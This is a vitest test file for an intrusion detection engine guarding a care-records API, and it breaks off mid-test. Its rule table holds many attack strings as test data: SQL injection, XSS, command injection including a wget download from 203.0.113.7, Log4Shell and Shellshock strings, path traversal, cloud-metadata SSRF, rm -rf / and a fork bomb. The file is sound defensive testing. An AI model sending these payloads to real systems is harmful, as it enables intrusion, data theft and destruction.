import fs from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  aggregate,
  boundBody,
  decodeHtmlEntities,
  DEFAULT_MODES,
  DEFAULT_RULES_PATH,
  IDS_CLASSES,
  IdsEngine,
  IdsRulesError,
  normalizeValue,
  percentDecode,
  scanJson,
  shellView,
  sqlView,
  type IdsFinding,
  type IdsRequest,
  type IdsRulesFile,
} from '../../src/gateway/ids/index.js';
import { withoutCutCharacter } from '../../src/gateway/ids/engine.js';

const engine = IdsEngine.fromFile();
/** The same rules without the prefilter: every rule runs on every field. */
const exhaustive = IdsEngine.fromFile(undefined, { prefilter: false });
const shipped = JSON.parse(fs.readFileSync(DEFAULT_RULES_PATH, 'utf8')) as IdsRulesFile;

const TOKEN = 'hkn_0123456789abcdef0123456789abcdef_SeCrEtPaRt-xyz';
const base = (over: Partial<IdsRequest> = {}): IdsRequest => ({
  method: 'GET',
  path: '/api/v1/data/collections/care-records/records',
  query: '',
  headers: { host: 'hokan.example.jp', 'user-agent': 'KaigoNote/4.2.1 (Windows NT 10.0; Win64; x64)', accept: 'application/json', authorization: `Bearer ${TOKEN}` },
  ...over,
});
/** A query parameter, encoded as a browser would. */
const q = (value: string, name = 'q') => base({ query: `${name}=${encodeURIComponent(value)}` });
/** A raw (already encoded) query string. */
const rawQ = (query: string) => base({ query });
/** A care note in a JSON record. */
const note = (text: string) => json({ id: 'cr-00000001', data: { residentId: 'R-0012', note: text } });
const json = (value: unknown) => base({ method: 'POST', headers: { ...base().headers, 'content-type': 'application/json' }, body: JSON.stringify(value) });
const rawBody = (body: string | Buffer, contentType: string) => base({ method: 'POST', headers: { ...base().headers, 'content-type': contentType }, body });
const header = (name: string, value: string | string[]) => base({ headers: { ...base().headers, [name]: value } });
const path = (p: string) => base({ path: p });
const method = (m: string) => base({ method: m });
const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
const manyHeaders = (n: number) => base({ headers: { ...base().headers, ...Object.fromEntries(Array.from({ length: n }, (_, i) => [`x-h${i}`, String(i)])) } });

const ruleIds = (f: IdsFinding[]) => f.map((x) => x.ruleId);

/**
 * Every rule: requests it must catch, and a near miss — benign traffic that shares its trigger or
 * looks like it — that must produce no finding at all. A rule added to rules.json without a row
 * here fails the coverage test.
 */
const RULE_CASES: Record<string, { attacks: IdsRequest[]; nearMiss: IdsRequest[] }> = {
  'SQLI-001': { attacks: [q("1' OR '1'='1"), q('1 or 1=1'), q('\'or\'\'=\''), note("x') and 2>1--"), q('1)) or ((1=1'), q("' or 'x'like'x"), q('-1 OR 2+1=3')], nearMiss: [note('Choose tea or water = both fine for swallowing.'), note('1 or 2 times a day; BP=120/80')] },
  'SQLI-002': { attacks: [q('1 UNION SELECT null,null--'), rawQ('q=1%20uNiOn/**/aLl/**/SeLeCt%201'), rawQ('q=1%20UNION%23x%0ASELECT%201')], nearMiss: [note('Referral to Union Hospital; please select a date.')] },
  'SQLI-003': { attacks: [q("'; DROP TABLE users;--"), q("1; UPDATE users SET role='admin'")], nearMiss: [note('Lunch done; drop the Tuesday visit, update the plan set for Monday.')] },
  'SQLI-004': { attacks: [q("admin'--"), q("admin' #"), q("1')/*")], nearMiss: [note("Daughter said 'call after 6pm' -- will call tomorrow."), note("It's #1 on the list")] },
  'SQLI-005': { attacks: [q('1 AND SLEEP(5)'), q("1'; WAITFOR DELAY '0:0:5'--"), q('1 and pg_sleep(5)')], nearMiss: [note('Having trouble sleeping; sleep (6h), woke twice.')] },
  'SQLI-006': { attacks: [q('x FROM information_schema.tables'), q("' and 1=(select 1 from sqlite_master)")], nearMiss: [note('Sys. 132 / Dia. 84, pg_ prefix table in the vendor manual.')] },
  'SQLI-007': { attacks: [q("' AND extractvalue(1,concat(0x7e,version()))--"), q("1 INTO OUTFILE '/tmp/x'")], nearMiss: [note('Floor exercise (床運動) 10 min, then group concat of photos.')] },
  'SQLI-008': { attacks: [q('1 AND ASCII(SUBSTRING(user(),1,1))>64'), q("1' and length(database())=8")], nearMiss: [note('Wound length (cm) measured: 2.0 and hex (六角) nut replaced.')] },
  'SQLI-009': { attacks: [q("1' ORDER BY 5--"), q("' having 1=1--")], nearMiss: [note('Order by phone: 2 cases. Group activity (体操) 10:00.')] },
  'SQLI-010': { attacks: [q("x' and (select 1 from dual)"), q("' or exists(select 1)"), q("a' || 1=1"), q("' or 1 in (select 1)--"), q("1 and (select substr(version(),1,1))='5'")], nearMiss: [note("Say 'yes' or select another option.")] },
  'SQLI-011': { attacks: [q("'; exec xp_cmdshell 'dir'--"), q("1; COPY (SELECT '') TO PROGRAM 'id'")], nearMiss: [note('Copy the program to the USB stick for the family.')] },
  'SQLI-012': { attacks: [q('SELECT * FROM users'), q('1 union select @@version'), q('select null,null,null')], nearMiss: [note('Please select 2 items from the menu.')] },
  'SQLI-013': { attacks: [q('CHAR(97)+CHAR(100)+CHAR(109)'), q('concat(0x61646d696e)')], nearMiss: [note('Char (炭火) 2 pieces; concat of notes by CM.')] },
  'XSS-001': { attacks: [note('<script>alert(1)</script>'), rawQ('q=%253Cscript%253E'), note('＜ｓｃｒｉｐｔ＞')], nearMiss: [note('目標血圧 <140/90 を維持。')] },
  'XSS-002': { attacks: [note('<img src=x onerror=alert(1)>'), q('" onmouseover="alert(1)'), note('<details open ontoggle=alert(1)>')], nearMiss: [note('Meeting set for Monday (time=10:00), turn on=ok.')] },
  'XSS-003': { attacks: [q('javascript:alert(1)', 'next'), note('<a href="vbscript:msgbox(1)">'), note('<iframe src="data:text/html,<b>">')], nearMiss: [note('JavaScript: 無効のブラウザでは表示されません。data: 2026-11')] },
  'XSS-004': { attacks: [note('<iframe src=//evil.example>'), note('<svg><g/></svg>'), note('<base href="https://evil.example/">')], nearMiss: [note('＜注意＞ 転倒リスク高')] },
  'XSS-005': { attacks: [q('alert(document.cookie)'), q('prompt`1`'), note('x=document.cookie'), q('alert(1)'), q("confirm ('x')")], nearMiss: [note('Please confirm (by phone) the pickup. Document: 同意書.pdf. Location: 2F.'), note('Nurse call alert (2) at night.')] },
  'XSS-006': { attacks: [q('"><b>x'), q('</textarea><b>')], nearMiss: [note('He said "ok" > then left.')] },
  'XSS-007': { attacks: [note('<div style="width:expression(alert(1))">'), note('a{-moz-binding:url(x)}')], nearMiss: [note('Facial expression (smile) good; URL sent to family.')] },
  'XSS-008': { attacks: [note('<x srcdoc="hi">'), note('<a xlink:href="javascript:alert(1)">')], nearMiss: [note('srcdoc は未使用 / xlink は不明')] },
  'XSS-009': { attacks: [q("{{constructor.constructor('alert(1)')()}}")], nearMiss: [note('{{name}} 様 (テンプレート)')] },
  'CMDI-001': { attacks: [q('x; id'), q('x | whoami'), q('x && cat /etc/hosts'), note('x; wget http://203.0.113.7/bot'), q('a;nslookup x.example.net'), q('x; sleep 10;')], nearMiss: [note('朝食8割; 昼食5割 | 夕食 7割 & おやつ全量; cat food for the visiting dog.')] },
  'CMDI-002': { attacks: [q('`whoami`'), q('$(id)')], nearMiss: [note('Use `Ctrl+P` to print; cost $(200) refunded.')] },
  'CMDI-003': { attacks: [q('{{7*7}}'), q('${7*7}'), note("${T(java.lang.Runtime).getRuntime().exec('id')}")], nearMiss: [note('{{name}} 様 — #{番号} を記入')] },
  'CMDI-004': { attacks: [rawQ('name=x.pdf%0aid'), rawQ('host=a%0d%0acat%20/etc/hosts')], nearMiss: [rawQ('note=first%0Asecond%20line')] },
  'CMDI-005': { attacks: [header('user-agent', '${jndi:ldap://203.0.113.7/a}'), header('x-api-version', '${${lower:j}ndi:rmi://x/a}')], nearMiss: [header('user-agent', 'Mozilla/5.0 ${VERSION}')] },
  'CMDI-006': { attacks: [header('user-agent', '() { :; }; /bin/id')], nearMiss: [header('user-agent', 'App/1.0 {build 42}')] },
  'CMDI-008': { attacks: [q('a;echo${IFS}vulnerable'), q('cat$IFS$9/etc/hosts')], nearMiss: [note('Paid $1,000 for the IFS (intake form sheet); ${price} template.')] },
  'CMDI-007': { attacks: [note('powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0'), q('x & cmd /c whoami')], nearMiss: [note('PowerShell の研修に参加 (cmd も)')] },
  'PATH-001': { attacks: [q('../../../secret.txt', 'file'), q('..\\..\\boot', 'file'), path('/portal/..;/admin')], nearMiss: [note('様子見…/再検温は15時'), q('report..final.pdf', 'name')] },
  'PATH-002': { attacks: [rawQ('file=%c0%ae%c0%ae/x'), rawQ('file=%uff0e%uff0e/x')], nearMiss: [note('売上 10%up, 前年比 +5%u')] },
  'PATH-003': { attacks: [q('/etc/passwd', 'file'), q('/proc/self/environ', 'file'), q('c:\\windows\\win.ini', 'file')], nearMiss: [note('etc. (その他) / passwd change requested by staff')] },
  'PATH-004': { attacks: [q('php://filter/resource=index.php', 'page'), q('file:///etc/hosts', 'url')], nearMiss: [note('file: ケアプラン.pdf, data: 2026-11')] },
  'PATH-005': { attacks: [q('http://evil.example/shell.txt?', 'page')], nearMiss: [q('https://example.jp/manual.pdf?page=2', 'next')] },
  'PATH-006': { attacks: [rawBody('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>', 'application/xml')], nearMiss: [rawBody('<!DOCTYPE html><html><body>ok</body></html>', 'text/html')] },
  'PROTO-001': { attacks: [method('TRACE'), method('PROPFIND')], nearMiss: [method('PATCH'), method('OPTIONS')] },
  'PROTO-002': { attacks: [rawQ('name=a%00b'), rawBody('{"id":"a\\u0000"}', 'application/json')], nearMiss: [rawQ('name=a%20b')] },
  'PROTO-003': { attacks: [rawQ('q=%c3%28'), rawBody(Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0x22, 0x7d]), 'application/json')], nearMiss: [rawQ('q=%c3%a9t%c3%a9')] },
  'PROTO-004': { attacks: [rawQ('q=%zz'), rawQ('q=%%32%65')], nearMiss: [rawQ('q=100%25')] },
  'PROTO-005': { attacks: [header('x-padding', 'a'.repeat(9000))], nearMiss: [header('x-padding', 'a'.repeat(8000))] },
  'PROTO-006': { attacks: [manyHeaders(150)], nearMiss: [manyHeaders(90)] },
  'PROTO-007': { attacks: [rawQ('next=/%0d%0aSet-Cookie:%20x=1')], nearMiss: [rawQ('note=a%0Ab:%20c')] },
  'PROTO-008': { attacks: [base({ method: 'POST', headers: { ...base().headers, 'content-type': 'application/json', 'content-length': '6', 'transfer-encoding': 'chunked' }, body: '{}' }), header('transfer-encoding', 'xchunked'), header('content-length', '5, 6'), header('content-length', ['2', '40'])], nearMiss: [base({ method: 'POST', headers: { ...base().headers, 'content-type': 'application/json', 'content-length': '2' }, body: '{}' }), header('transfer-encoding', 'chunked')] },
  'SCAN-001': { attacks: [header('user-agent', 'sqlmap/1.8.2#stable (https://sqlmap.org)'), header('user-agent', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)')], nearMiss: [header('user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36')] },
  'SCAN-002': { attacks: [path('/.env'), path('/wp-admin/'), path('/cgi-bin/luci'), path('/index.php'), path('/web.config'), path('/app/settings.ini')], nearMiss: [path('/api/v1/data/collections/env/records'), path('/portal/assets/app.js'), path('/api/v1/data/collections/docs/records/setup.php')] },
  'SCAN-003': { attacks: [q('http://abc.oastify.com/', 'url'), header('x-forwarded-host', 'x.burpcollaborator.net')], nearMiss: [q('https://example.com/', 'url')] },
  'SCAN-004': { attacks: [q('acunetix-wvs-test-for-some-inexistent-file'), q('netsparker_probe')], nearMiss: [note('Qualys report reviewed; nessun dorma played at the party.')] },
  'SCAN-005': { attacks: [header('acunetix-aspect', 'enabled'), header('x-wipp', '1')], nearMiss: [header('x-request-id', 'abc')] },
  'ENV-001': { attacks: [note('x; rm -rf /'), note('x; mkfs.ext4 /dev/sda1'), note('& format c: /q'), q('x;rm${IFS}-rf${IFS}/', 'name')], nearMiss: [note('Rm 201 → Rm 305; format of the sheet changed; find the form.')] },
  'ENV-002': { attacks: [note('x; shutdown -h now'), note('x | reboot'), note("1'; SHUTDOWN WITH NOWAIT;--")], nearMiss: [note('Shutdown of the heater on 12/3; halt the laxative; reboot done by vendor.')] },
  'ENV-003': { attacks: [note(':(){ :|:& };:'), note('%0|%0')], nearMiss: [note('朝 | 昼 | 夕; while waiting, folded towels.')] },
  'ENV-004': { attacks: [q('http://169.254.169.254/latest/meta-data/', 'url'), note('http://metadata.google.internal/computeMetadata/v1/')], nearMiss: [note('Photo metadata (撮影日) checked.')] },
  'ENV-005': { attacks: [q('gopher://127.0.0.1:6379/_FLUSHALL', 'url'), q('http://2130706433/', 'url'), q('http://localhost:8080/admin', 'url'), q('http://[0:0:0:0:0:ffff:127.0.0.1]/', 'url'), q('http://[::1]:5432/', 'url')], nearMiss: [note('プリンタ http://192.168.10.20/printer から印刷')] },
  'ENV-006': { attacks: [note('com.sun.rowset.JdbcRowSetImpl'), note('org.apache.commons.collections.functors.InvokerTransformer')], nearMiss: [note('java.lang.String 型 (Java 研修)')] },
  'ENV-007': { attacks: [note('rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'), q('O:8:"stdClass":1:{s:1:"a";i:1;}', 'data'), note('!!python/object/apply:os.system ["id"]')], nearMiss: [note('data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB; O2 2L')] },
  'ENV-008': { attacks: [json({ data: JSON.parse('{"__proto__":{"isAdmin":true}}') as unknown }), rawQ('constructor[prototype][isAdmin]=true'), rawQ(`where=${encodeURIComponent('{"constructor":{"prototype":{"x":1}}}')}`)], nearMiss: [json({ data: { prototype: 'v2 試作', constructor: 'ACME' } })] },
  'DOS-001': { attacks: [rawBody(`{"data":${nested(40)}}`, 'application/json'), rawQ(`where=${encodeURIComponent(nested(40))}`)], nearMiss: [rawBody(`{"data":${nested(10)}}`, 'application/json')] },
  'DOS-002': { attacks: [rawBody(`{"x":[${Array.from({ length: 10_001 }, () => '1').join(',')}]}`, 'application/json')], nearMiss: [rawBody(`{"x":[${Array.from({ length: 9000 }, () => '1').join(',')}]}`, 'application/json')] },
  'DOS-003': { attacks: [json(Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`k${i}`, i])))], nearMiss: [json(Object.fromEntries(Array.from({ length: 900 }, (_, i) => [`k${i}`, i])))] },
  'DOS-004': { attacks: [rawBody(`{"note":"${'あ'.repeat(400_000)}"}`, 'application/json')], nearMiss: [rawBody(`{"note":"${'あ'.repeat(300_000)}"}`, 'application/json')] },
  'DOS-005': { attacks: [rawQ(Array.from({ length: 201 }, (_, i) => `p${i}=1`).join('&'))], nearMiss: [rawQ(Array.from({ length: 150 }, (_, i) => `p${i}=1`).join('&'))] },
  'DOS-006': { attacks: [path(`/api/v1/data/collections/x/records/${'a'.repeat(8200)}`)], nearMiss: [path(`/api/v1/data/collections/x/records/${'a'.repeat(8000)}`)] },
  'DOS-007': { attacks: [rawBody('<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>', 'application/xml')], nearMiss: [rawBody('<!ENTITY lol "lol">', 'application/xml')] },
  'DOS-008': { attacks: [header('range', `bytes=${Array.from({ length: 20 }, (_, i) => `${i * 10}-`).join(',')}`)], nearMiss: [header('range', 'bytes=0-1023')] },
};

describe('IDS rules (R12.2): one table row per rule', () => {
  it('the shipped rules file loads, is versioned, and every rule has a test row', () => {
    expect(engine.version).toBe('2026.11.1');
    expect(shipped.version).toBe(engine.version);
    const ids = shipped.rules.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.filter((id) => !(id in RULE_CASES))).toEqual([]);
    expect(Object.keys(RULE_CASES).filter((id) => !ids.includes(id))).toEqual([]);
    // Every class is covered by at least one rule.
    expect(IDS_CLASSES.filter((c) => !shipped.rules.some((r) => r.class === c))).toEqual([]);
  });

  for (const [id, cases] of Object.entries(RULE_CASES)) {
    it(`${id} catches its attacks (with and without the prefilter) and leaves its near misses alone`, () => {
      cases.attacks.forEach((req, i) => {
        const found = ruleIds(engine.inspect(req));
        expect(found, `${id} attack #${i}`).toContain(id);
        // The prefilter must never hide a match the rule's pattern would make.
        expect(ruleIds(exhaustive.inspect(req)), `${id} attack #${i} without prefilter`).toContain(id);
      });
      cases.nearMiss.forEach((req, i) => {
        expect(engine.inspect(req), `${id} near miss #${i}`).toEqual([]);
        expect(exhaustive.inspect(req), `${id} near miss #${i} without prefilter`).toEqual([]);
      });
    });
  }

  it('findings carry the rule, class, severity, target and the field it was found in', () => {
    const [f] = engine.inspect(q("1' OR '1'='1", 'cursor'));
    expect(f).toMatchObject({ ruleId: 'SQLI-001', class: 'sql_injection', severity: 'high', target: 'query', field: 'cursor' });
    expect(f!.sample).toContain("or '1'='1");
    const body = engine.inspect(json({ data: { resident: { note: '<script>alert(1)</script>' } } }));
    expect(body.find((x) => x.ruleId === 'XSS-001')).toMatchObject({ target: 'body', field: 'data.resident.note' });
  });
});

describe('IDS normalisation', () => {
  it('percent-decodes up to twice, turns + into a space in queries, and keeps invalid sequences raw but flagged', () => {
    expect(percentDecode('%253Cscript%253E', false)).toMatchObject({ text: '<script>', doubleEncoded: true, invalidPercent: false });
    expect(percentDecode('%25253C', false).text).toBe('%3C');
    expect(percentDecode('a+b%2Bc', true).text).toBe('a b+c');
    expect(percentDecode('a+b', false).text).toBe('a+b');
    expect(percentDecode('100%zz', false)).toMatchObject({ text: '100%zz', invalidPercent: true });
    expect(percentDecode('%E3%81', false)).toMatchObject({ text: '%E3%81', invalidUtf8: true });
    expect(percentDecode('%c0%ae%c0%ae/', false)).toMatchObject({ text: '%c0%ae%c0%ae/', invalidUtf8: true });
    expect(percentDecode('%E3%82%B1%E3%82%A2', false).text).toBe('ケア');
    // Only the wire counts: a decoded "50% off" is not malformed.
    expect(percentDecode('50%25%20off', false)).toMatchObject({ text: '50% off', invalidPercent: false });
  });

  it('decodes HTML entities (hex, decimal, named, double-encoded), folds NFKC and case', () => {
    expect(decodeHtmlEntities('&#x3c;b&#62;&lt;i&gt;&amp;lt;')).toBe('<b><i><');
    expect(decodeHtmlEntities('R&D &unknown; &#0;')).toBe('R&D &unknown; \ufffd');
    // The field separator (U+0001) can never be produced by decoding or smuggled in raw.
    expect(decodeHtmlEntities('&#1;')).toBe('\ufffd');
    const split = engine.inspect(rawBody('{"a":"x\u0001y&#1;z","b":"<script>alert(1)</script>"}', 'application/json'));
    expect(split.find((f) => f.ruleId === 'XSS-001')?.field).toBe('b');
    expect(normalizeValue('＜ＳＣＲＩＰＴ＞', { percent: false }).text).toBe('<script>');
    expect(normalizeValue('ﾔﾏﾀﾞ ﾊﾅｺ', { percent: false }).text).toBe('ヤマダ ハナコ');
    expect(normalizeValue('%26%23x3C%3BScRiPt', { percent: true })).toMatchObject({ text: '<script', htmlEntities: true });
    expect(normalizeValue('ケアプラン（2026-11）.pdf', { percent: false }).text).toBe('ケアプラン(2026-11).pdf');
  });

  it('SQL rules see comments removed; shell rules see quoting tricks undone', () => {
    expect(sqlView('1 union/**/select')).toBe('1 union select');
    expect(sqlView('/*!50000union*/ /*!select*/ 1')).toContain('union');
    expect(sqlView('union#x\nselect')).toBe('union select');
    expect(sqlView('a /* unterminated')).toBe('a /* unterminated');
    expect(shellView(`c'a't /e"t"c/pa\\sswd`)).toBe('cat /etc/passwd');
    expect(shellView('cat${ifs}/etc/passwd')).toBe('cat /etc/passwd');
    expect(shellView('{cat,/etc/passwd}')).toBe('cat /etc/passwd');
  });

  it('JSON bodies are read string by string, escapes decoded, structure measured, and non-JSON leftovers noticed', () => {
    const s = scanJson('{"a":{"b":["x","\\u003cscript"]},"k":1}');
    expect(s.segments.map((x) => [x.path, x.key, x.text])).toEqual([
      ['a', true, 'a'],
      ['a.b', true, 'a.b'],
      ['a.b[]', false, 'x'],
      ['a.b[]', false, '<script'],
      ['k', true, 'k'],
    ]);
    expect(s).toMatchObject({ maxDepth: 3, maxArrayLength: 2, maxKeys: 2, clean: true });
    expect(scanJson('{"a":1} union select 1').clean).toBe(false);
    // A cut-off body is still read.
    expect(scanJson('{"note":"abc", "n": tr').clean).toBe(true);
  });

  it('bounds the body: at most maxBodyBytes, cut on a character boundary, truncation reported', () => {
    const text = 'あ'.repeat(30_000); // 90,000 bytes
    const b = boundBody(Buffer.from(text), 64 * 1024);
    expect(b.truncated).toBe(true);
    expect(b.bytesInspected).toBeLessThanOrEqual(64 * 1024);
    expect(b.bytesInspected % 3).toBe(0);
    expect(b.invalidUtf8).toBe(false);
    expect(b.text).toBe('あ'.repeat(b.bytesInspected / 3));
    expect(boundBody(text, 64 * 1024)).toMatchObject({ truncated: true, totalBytes: 90_000, invalidUtf8: false });
    expect(boundBody('short')).toMatchObject({ truncated: false, bytesInspected: 5 });
  });
});

describe('IDS redaction', () => {
  const everything = (f: IdsFinding[]) => JSON.stringify(f).toLowerCase();

  it('never puts an Authorization token, a cookie or a password field into a sample', () => {
    const req = base({
      method: 'POST',
      path: '/api/v1/auth/login',
      headers: { ...base().headers, authorization: `Bearer ${TOKEN}' OR '1'='1`, cookie: `hokan_session=SeSsIoNvAlUe/../../etc/passwd`, 'content-type': 'application/json' },
      body: JSON.stringify({ loginId: 'admin', password: "hunter2' OR '1'='1' --", newPassword: '<script>alert(1)</script>' }),
    });
    const findings = engine.inspect(req);
    expect(findings.length).toBeGreaterThanOrEqual(3);
    const text = everything(findings);
    for (const secret of [TOKEN, 'secretpart', 'sessionvalue', 'hunter2']) expect(text).not.toContain(secret.toLowerCase());
    expect(findings.find((f) => f.target === 'body' && f.field === 'password')?.sample).toBe('***');
    expect(findings.find((f) => f.field === 'newPassword')?.sample).toBe('***');
  });

  it('masks secrets written inside other text and in query parameters', () => {
    const inNote = engine.inspect(note('password=hunter2 and token: abc123 <script>alert(1)</script>'));
    expect(inNote.length).toBeGreaterThan(0);
    expect(everything(inNote)).not.toContain('hunter2');
    expect(everything(inNote)).not.toContain('abc123');
    expect(inNote[0]!.sample).toContain('password=***');
    const inQuery = engine.inspect(rawQ(`api_key=k3y'--&x=1`));
    expect(inQuery.map((f) => f.sample)).toEqual(['***']);
    const inWhere = engine.inspect(rawQ(`where=${encodeURIComponent(JSON.stringify({ secret: "s3cr3t' or 1=1--" }))}`));
    expect(inWhere.length).toBeGreaterThan(0);
    expect(everything(inWhere)).not.toContain('s3cr3t');
  });

  it('keeps samples short and printable', () => {
    const findings = engine.inspect(note(`${'x'.repeat(500)}\n<script>alert(1)</script>\n${'y'.repeat(500)}`));
    for (const f of findings) {
      expect(f.sample.length).toBeLessThanOrEqual(200);
      expect(f.sample).not.toMatch(/[\u0000-\u001f]/);
    }
    expect(findings[0]!.sample).toContain('<script>');
  });
});

describe('IDS modes and decisions', () => {
  it('blocks every class by default except scanner, which is only recorded', () => {
    const e = IdsEngine.fromFile();
    expect(Object.fromEntries(IDS_CLASSES.map((c) => [c, e.getMode(c)]))).toEqual(DEFAULT_MODES);
    expect(e.getMode('scanner')).toBe('detect');
    expect(e.decide([])).toEqual({ action: 'allow', findings: [] });
    const scan = e.inspect(header('user-agent', 'sqlmap/1.8'));
    expect(e.decide(scan).action).toBe('log');
    const xss = e.inspect(note('<script>alert(1)</script>'));
    expect(e.decide(xss).action).toBe('block');
    expect(e.decide([...scan, ...xss]).action).toBe('block');
  });

  it('setMode switches a class between detect and block, per engine', () => {
    const e = IdsEngine.fromFile();
    const xss = e.inspect(note('<script>alert(1)</script>'));
    e.setMode('xss', 'detect');
    expect(e.decide(xss).action).toBe('log');
    e.setMode('scanner', 'block');
    expect(e.decide(e.inspect(header('user-agent', 'sqlmap/1.8'))).action).toBe('block');
    expect(engine.getMode('xss')).toBe('block');
    expect(() => e.setMode('nonsense' as 'xss', 'block')).toThrow(/unknown IDS class/);
    expect(() => e.setMode('xss', 'maybe' as 'block')).toThrow(/unknown IDS mode/);
  });
});

describe('IDS rules-file validation', () => {
  const rule = (over: Record<string, unknown>) => ({ id: 'TEST-001', class: 'xss', severity: 'high', description: 'a test rule', targets: ['query'], pattern: { source: 'evil' }, triggers: ['evil'], ...over });
  const file = (...rules: unknown[]) => ({ version: '2026.11.1', rules });
  const problem = (input: unknown): IdsRulesError => {
    try {
      IdsEngine.fromObject(input);
    } catch (e) {
      if (e instanceof IdsRulesError) return e;
      throw e;
    }
    throw new Error('expected the rules file to be refused');
  };

  it('accepts a minimal valid file and uses it', () => {
    const e = IdsEngine.fromObject(file(rule({})));
    expect(e.rules).toHaveLength(1);
    expect(ruleIds(e.inspect(q('so evil')))).toEqual(['TEST-001']);
  });

  it('names the rule for a bad regex, an unknown class and an unknown check', () => {
    const bad = problem(file(rule({ id: 'SQLI-999', pattern: { source: '(unclosed' } })));
    expect(bad.ruleId).toBe('SQLI-999');
    expect(bad.message).toMatch(/rule SQLI-999: pattern does not compile/);
    const cls = problem(file(rule({ id: 'XSS-777', class: 'phishing' })));
    expect(cls.message).toMatch(/rule XSS-777: unknown class "phishing"/);
    const check = problem(file({ id: 'DOS-555', class: 'dos', severity: 'low', description: 'x', targets: ['body'], check: 'json_width' }));
    expect(check.message).toMatch(/rule DOS-555: unknown check "json_width"/);
  });

  it('refuses the other mistakes too, listing all of them', () => {
    const e = problem(
      file(
        rule({ id: 'BAD-001', targets: ['cookies'] }),
        rule({ id: 'BAD-002', pattern: { source: 'x', flags: 'g' } }),
        rule({ id: 'BAD-003', triggers: ['Evil'] }),
        rule({ id: 'BAD-004', pattern: { source: 'a*' } }),
        rule({ id: 'BAD-005', check: 'json_depth' }),
        { id: 'BAD-006', class: 'dos', severity: 'low', description: 'x', targets: ['body'], check: 'json_depth' },
        { id: 'BAD-007', class: 'dos', severity: 'low', description: 'x', targets: ['method'], check: 'json_depth', params: { max: 3 } },
        rule({ id: 'BAD-008', severity: 'apocalyptic' }),
        rule({ id: 'BAD-009', description: '' }),
        rule({ id: 'BAD-009' }),
        rule({ id: 'lower-1' }),
        rule({ id: 'BAD-010', extra: true }),
      ),
    );
    const text = e.message;
    expect(text).toMatch(/rule BAD-001: unknown target "cookies"/);
    expect(text).toMatch(/rule BAD-002: pattern flags "g" not allowed/);
    expect(text).toMatch(/rule BAD-003: trigger "Evil" must be lower-case/);
    expect(text).toMatch(/rule BAD-004: pattern matches the empty string/);
    expect(text).toMatch(/rule BAD-005: needs exactly one of "pattern" and "check"/);
    expect(text).toMatch(/rule BAD-006: check json_depth needs parameter "max"/);
    expect(text).toMatch(/rule BAD-007: check json_depth cannot look at target "method"/);
    expect(text).toMatch(/rule BAD-008: unknown severity/);
    expect(text).toMatch(/rule BAD-009: needs a description/);
    expect(text).toMatch(/rule BAD-009: id is used by another rule/);
    expect(text).toMatch(/rule lower-1: id must look like SQLI-001/);
    expect(text).toMatch(/rule BAD-010: unknown field "extra"/);
    expect(e.problems.length).toBeGreaterThanOrEqual(12);
  });

  it('refuses a wrong version, no rules, and unreadable or non-JSON files', () => {
    expect(problem({ version: 'latest', rules: [rule({})] }).message).toMatch(/version must look like/);
    expect(problem({ version: '2026.11.1', rules: [] }).message).toMatch(/rules must be a non-empty list/);
    expect(() => IdsEngine.fromFile('/nonexistent/rules.json')).toThrow(/cannot be read/);
    expect(() => IdsEngine.fromFile(new URL(import.meta.url).pathname)).toThrow(IdsRulesError);
  });
});

describe('IDS robustness: bad bytes and big bodies', () => {
  it('a form longer than the limit, cut inside a percent-encoded Japanese character, is not called malformed (the terms import form)', () => {
    const text = '第1条（規約の適用）この規約は弊社が提供するサービスに適用されます。'.repeat(200);
    const form = new URLSearchParams({ _csrf: 'x', edition: '6.5版', text }).toString();
    for (const limit of [1000, 1001, 1002, 1003, 1004, 1005]) {
      const small = IdsEngine.fromFile(undefined, { maxBodyBytes: limit });
      const r = small.inspectDetailed(rawBody(form, 'application/x-www-form-urlencoded'));
      expect(r.truncated).toBe(true);
      expect(ruleIds(r.findings), `cut at ${limit}`).not.toContain('PROTO-003');
      expect(ruleIds(r.findings), `cut at ${limit}`).not.toContain('PROTO-002');
    }
    expect(withoutCutCharacter('a=%E7%AC%AC%E1')).toBe('a=%E7%AC%AC');
    expect(withoutCutCharacter('a=%E7%AC%AC%E1%A')).toBe('a=%E7%AC%AC');
    expect(withoutCutCharacter('a=%E7%AC%AC%')).toBe('a=%E7%AC%AC');
    expect(withoutCutCharacter('a=%E7%AC%AC')).toBe('a=%E7%AC%AC');
    // A malformed sequence that the cut did not make is still there to be found.
    expect(withoutCutCharacter('a=%FF%FEx')).toBe('a=%FF%FEx');
  });

  it('inspects invalid UTF-8 without throwing and reports it', () => {
    const body = Buffer.from([0x7b, 0x22, 0x6e, 0x22, 0x3a, 0x22, 0xe3, 0x81, 0x22, 0xff, 0xfe, 0xc0, 0xae, 0x7d]);
    const findings = engine.inspect(rawBody(body, 'application/json'));
    expect(ruleIds(findings)).toContain('PROTO-003');
    // A binary body on a route that takes JSON is inspected as text, but not called invalid UTF-8.
    expect(() => engine.inspect(rawBody(Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 131) % 256)), 'application/octet-stream'))).not.toThrow();
  });

  it('inspects a 10 MB body only up to the limit, reports the truncation, and flags the size', () => {
    const big = Buffer.alloc(10 * 1024 * 1024, 'a');
    big.write('{"note":"', 0);
    const r = engine.inspectDetailed(rawBody(big, 'application/json'));
    expect(r.truncated).toBe(true);
    expect(r.bytesInspected).toBeLessThan(64 * 1024 + 2000);
    expect(ruleIds(r.findings)).toContain('DOS-004');
    const small = IdsEngine.fromFile(undefined, { maxBodyBytes: 1024 });
    const payload = `{"note":"${'a'.repeat(5000)}<script>alert(1)</script>"}`;
    expect(ruleIds(small.inspect(rawBody(payload, 'application/json')))).not.toContain('XSS-001');
